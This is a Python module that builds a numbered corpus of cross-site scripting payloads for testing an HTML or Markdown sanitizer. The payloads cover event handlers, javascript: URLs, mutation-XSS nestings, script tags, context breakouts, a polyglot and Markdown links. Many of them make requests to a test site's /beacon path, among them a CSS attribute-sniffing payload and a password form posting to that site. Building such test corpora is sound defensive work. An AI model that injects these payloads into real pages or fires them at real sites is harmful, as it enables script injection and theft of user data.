"""A corpus of hostile texts, our own, grown from a small grammar: what strangers write to have a page run it.

Each payload carries its number: what runs calls `hit(number)`, what is fetched asks the hostile site for
`/beacon/number`. So a test can say which one bit. Pure; the same numbers for the same site.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from html import escape
from itertools import cycle
from typing import NamedTuple


class Payload(NamedTuple):
    """One text; it is hostile as HTML, as Markdown or inside some attribute or script."""

    number: int
    family: str
    text: str


_TAGS = (
    "img", "svg", "body", "video", "audio", "input", "details", "iframe", "object", "marquee", "select",
    "textarea", "a", "div", "style", "math", "button", "form", "embed", "table", "x-own", "link", "source",
)  # fmt: skip
_HANDLERS = (
    "onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpageshow", "onclick",
    "onbeforetoggle", "onscrollend",
)  # fmt: skip
_HELP = "src=x autofocus open tabindex=1 style=animation-name:x popover"
_BETWEEN = (" ", "/", "\t", "\n", "\f", " / ", "\r\n")
_QUOTES = ("", '"', "'", "")
_CASES: tuple[Callable[[str], str], ...] = (str.lower, str.upper, str.title)


def handlers() -> Iterator[str]:
    """Every tag with some handlers, each written another way."""
    betweens, quotes, cases, handler = cycle(_BETWEEN), cycle(_QUOTES), cycle(_CASES), cycle(_HANDLERS)
    for tag in _TAGS:
        for _ in range(7):
            gap, quote, case = next(betweens), next(quotes), next(cases)
            yield f"<{case(tag)}{gap}{_HELP}{gap}{case(next(handler))}={quote}hit({{n}}){quote}>"


_SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java&#x0A;script:", "&#106;avascript:", "vbscript:",
    "javascript&colon;", "&#0000106&#0000097vascript:", "javascript:%0a", " \x01javascript:",
    "feed:javascript:",
)  # fmt: skip
_CARRIERS = (
    "<a href='{}'>press</a>",
    "<form action='{}'><button>press</button></form>",
    "<button form=f formaction='{}'>press</button>",
    "<iframe src='{}'></iframe>",
    "<object data='{}'></object>",
    "<embed src='{}'>",
    "<svg><a xlink:href='{}'><text y=20>press</text></a></svg>",
    "<math href='{}'>press</math>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<base href='{}//'><a href=x>press</a>",
    "<svg><animate attributeName=href values='{}'/></svg>",
    "<svg><set attributeName=href to='{}'/></svg>",
    "<img src='{}'>",
    "<link rel=stylesheet href='{}'>",
    "<area href='{}' shape=default>",
)


def addresses() -> Iterator[str]:
    """Addresses that are scripts, in everything that has an address."""
    schemes = cycle(_SCHEMES)
    for carrier in _CARRIERS:
        for _ in range(5):
            yield carrier.format(f"{next(schemes)}hit({{n}})")
        yield carrier.format("data:text/html;base64,{b}")


_NESTS = (
    "<svg><style>{}</style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>{t}",
    "<noscript><p title='</noscript>{}'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<svg></p><style><a id='</style>{}'>",
    "<math></br><style><a id='</style>{}'>",
    "<template><b>{}</b></template>",
    "<xmp>{}</xmp>",
    "<textarea><p title='</textarea>{}'>",
    "<title><p title='</title>{}'>",
    "<noembed><p title='</noembed>{}'>",
    "<iframe srcdoc='{e}'></iframe>",
    "<iframe><p title='</iframe>{}'>",
    "<!--><b>{}-->",
    "<!--!>{}-->",
    "<![CDATA[><b>{}]]>",
    "<svg><![CDATA[</svg>{}]]>",
    "<?xml version='1.0'?>{}",
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
    "<select><option><style></option></select>{}</style>",
    "<table><tr><td><form><table>{}</table></form></td></tr></table>",
    "<svg><desc><svg><title>{}</title></svg></desc></svg>",
    "<listing>{e}</listing>",
    "<plaintext>{}",
    "<div><div><div" * 40 + ">{}",
    "<b><i><p></b>{}</i>",
    "<svg><use href='data:image/svg+xml,{e}#x'/></svg>",
    "<a title='&quot;>{e}'>press</a>",
    "<img alt='`>{}`' title=x>",
    "<blockquote cite='>{}'>said</blockquote>",
    "On Monday Carla wrote:\n> {}",
)
_INNERS = ("<img src=x onerror=hit({n})>", "<svg onload=hit({n})>", "<script>hit({n})</script>")


def nested() -> Iterator[str]:
    """Markup that means one thing to the one who cleans it and another to the one who shows it."""
    for nest in _NESTS:
        for inner in _INNERS:
            hidden = f"<img title='--&gt;{escape(inner, quote=False)}'>"
            yield nest.replace("{}", inner).replace("{e}", escape(inner)).replace("{t}", hidden)


_SCRIPTS = (
    "<script>hit({n})</script>",
    "<ScRiPt >hit({n})</sCrIpT\n>",
    "<script/x>hit({n})</script/y>",
    "<<script>hit({n})//<</script>",
    "<script src={s}/beacon/{n}></script>",
    "<script src=//{h}/beacon/{n}></script>",
    "<script type=module>hit({n})</script>",
    "<svg><script>hit({n})</script></svg>",
    "<svg><script href={s}/beacon/{n} /></svg>",
    "<script>0</script><script>hit({n})</script>",
    "<scr<script>ipt>hit({n})</scr</script>ipt>",
    "<script\x0b>hit({n})</script>",
)
_FETCHERS = (
    "<img src={s}/beacon/{n}>",
    "<img src=//{h}/beacon/{n}>",
    "<img src='\n{s}/beacon/{n}'>",
    "<img srcset='{s}/beacon/{n} 2x' src=x>",
    "<picture><source srcset={s}/beacon/{n}><img src=x></picture>",
    "<img src=x data-remote-src=x><img data-remote-src=' src=' src={s}/beacon/{n}>",
    "<img alt='\" src=\"x' src={s}/beacon/{n}>",
    "<img title='>' src={s}/beacon/{n}>",
    "<image src={s}/beacon/{n}>",
    "<img lowsrc={s}/beacon/{n} dynsrc={s}/beacon/{n}>",
    "<input type=image src={s}/beacon/{n}>",
    "<video poster={s}/beacon/{n}></video>",
    "<video src={s}/beacon/{n} autoplay></video>",
    "<audio src={s}/beacon/{n} autoplay></audio>",
    "<video><track default src={s}/beacon/{n}></video>",
    "<link rel=stylesheet href={s}/beacon/{n}>",
    "<link rel=prefetch href={s}/beacon/{n}>",
    "<link rel=preload as=image href={s}/beacon/{n}>",
    "<link rel=icon href={s}/beacon/{n}>",
    "<style>@import '{s}/beacon/{n}';</style>",
    "<style>*{{background:url({s}/beacon/{n})}}</style>",
    "<style>input[value^=a]{{background:url({s}/beacon/{n})}}</style><input value=abc>",
    "<style>@font-face{{font-family:x;src:url({s}/beacon/{n})}}*{{font-family:x}}</style>",
    "<p style='background:url({s}/beacon/{n})'>said</p>",
    "<p style='background-image:image-set(\"{s}/beacon/{n}\" 1x)'>said</p>",
    "<p style='list-style:url({s}/beacon/{n});display:list-item'>said</p>",
    "<p style='content:url({s}/beacon/{n})'>said</p>",
    "<p style='cursor:url({s}/beacon/{n}),auto'>said</p>",
    "<p style='border:1px solid;border-image:u\\72l({s}/beacon/{n})'>said</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>covers</p>",
    "<table background={s}/beacon/{n}><tr><td background={s}/beacon/{n}>said</td></tr></table>",
    "<body background={s}/beacon/{n}>",
    "<svg><image href={s}/beacon/{n} /></svg>",
    "<svg><feImage href={s}/beacon/{n} /></svg>",
    "<svg><use href={s}/beacon/{n}#x /></svg>",
    "<object data={s}/beacon/{n}></object>",
    "<embed src={s}/beacon/{n}>",
    "<iframe src={s}/beacon/{n}></iframe>",
    "<meta http-equiv=refresh content='0;url={s}/beacon/{n}'>",
    "<base href={s}/beacon/{n}/><img src=x>",
    "<form action={s}/beacon/{n}><input name=password autofocus></form>",
    "<a href={s}/beacon/{n} ping={s}/beacon/{n}>press</a>",
    "<bgsound src={s}/beacon/{n}><frameset><frame src={s}/beacon/{n}></frameset>",
    "<portal src={s}/beacon/{n}></portal>",
    "<math><mglyph src={s}/beacon/{n}></math>",
)
_BREAKERS = (
    '"><img src=x onerror=hit({n})>',
    "'><img src=x onerror=hit({n})>",
    "`><img src=x onerror=hit({n})>",
    '" autofocus tabindex=1 onfocus=hit({n}) x="',
    "' autofocus tabindex=1 onfocus=hit({n}) x='",
    "--><img src=x onerror=hit({n})>",
    "]]><img src=x onerror=hit({n})>",
    "</title><img src=x onerror=hit({n})>",
    "</textarea><img src=x onerror=hit({n})>",
    "</style><script>hit({n})</script>",
    "</script><script>hit({n})</script>",
    "';hit({n})//",
    '";hit({n})//',
    "\\';hit({n})//",
    "'-hit({n})-'",
    "${{hit({n})}}",
    "{{{{constructor.constructor('hit({n})')()}}}}",
    "{{{{7*7}}}}<%= hit({n}) %>#{{hit({n})}}",
    "\\u003cimg src=x onerror=hit({n})\\u003e",
    "\\x3cimg src=x onerror=hit({n})\\x3e",
    "%3Cimg%20src%3Dx%20onerror%3Dhit({n})%3E",
    "&lt;img src=x onerror=hit({n})&gt;",
    "&amp;lt;img src=x onerror=hit({n})&amp;gt;",
    "&#60;img src=x onerror=hit({n})&#62;",
    "+ADw-script+AD4-hit({n})+ADw-/script+AD4-",
    "＜img src=x onerror=hit({n})＞",
    "\u202e<img src=x onerror=hit({n})>",
    "<img\u00a0src=x\u00a0onerror=hit({n})>",
    "<img src=x onerror=hit({n})//",
    "<img src=x onerror\u2028=hit({n})>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(hit({n}))//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=hit({n})//>\\x3e",
    "javascript:hit({n})",
    'https://e.test/"onmouseover="hit({n})',
    "https://e.test/'onmouseover='hit({n})",
    "https://e.test/<svg/onload=hit({n})>",
    "http://javascript:hit({n})@e.test/",
    'hit({n})@"><svg/onload=hit({n})>.test',
)
_MARKDOWN = (
    "[press](javascript:hit({n}))",
    "[press](JaVaScRiPt:hit({n}))",
    "[press](java&#10;script:hit({n}))",
    "[press](<javascript:hit({n})>)",
    "[press](&#106;avascript:hit({n}))",
    "[press](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4={n})",
    "[press][r{n}]\n\n[r{n}]: javascript:hit({n})",
    "<javascript:hit({n})>",
    '![press](x"onerror="hit({n}))',
    "![press](javascript:hit({n}))",
    "![press]({s}/beacon/{n})",
    '[press](https://e.test "\'onmouseover=hit({n})")',
    "`<img src=x onerror=hit({n})>`",
    "```\n</code></pre><img src=x onerror=hit({n})>\n```",
    '```"onmouseover=hit({n})\nsaid\n```',
    "| a |\n|---|\n| <img src=x onerror=hit({n})> |",
    "# <svg onload=hit({n})>",
    "[<img src=x onerror=hit({n})>](https://e.test)",
)


_FAMILIES: tuple[tuple[str, Callable[[], Iterator[str]]], ...] = (
    ("handler", handlers),
    ("address", addresses),
    ("nest", nested),
    ("script", lambda: iter(_SCRIPTS)),
    ("fetch", lambda: iter(_FETCHERS)),
    ("break", lambda: iter(_BREAKERS)),
    ("markdown", lambda: iter(_MARKDOWN)),
)


def corpus(site: str) -> list[Payload]:
    """Every payload, for a site (its origin) that counts what is fetched."""
    templates = [(family, template) for family, make in _FAMILIES for template in make()]
    host = site.partition("://")[2]
    made = []
    for number, (family, template) in enumerate(templates, 1):
        packed_script = base64.b64encode(f"<script>parent.hit({number})</script>".encode()).decode()
        text = template.format(n=number, s=site, h=host, b=packed_script)
        made.append(Payload(number, family, text))
    return made


def packed(payloads: list[Payload], longest: int, between: str = " ") -> list[str]:
    """The texts in order in fields of up to `longest` characters; what is longer itself is left out."""
    fields: list[str] = []
    for text in (payload.text for payload in payloads if len(payload.text) <= longest):
        if fields and len(fields[-1]) + len(between) + len(text) <= longest:
            fields[-1] += between + text
        else:
            fields.append(text)
    return fields


def on_one_line(text: str) -> str:
    """The text as a field takes it that may have no control characters."""
    return "".join(" " if char < " " or char == "\x7f" else char for char in text)
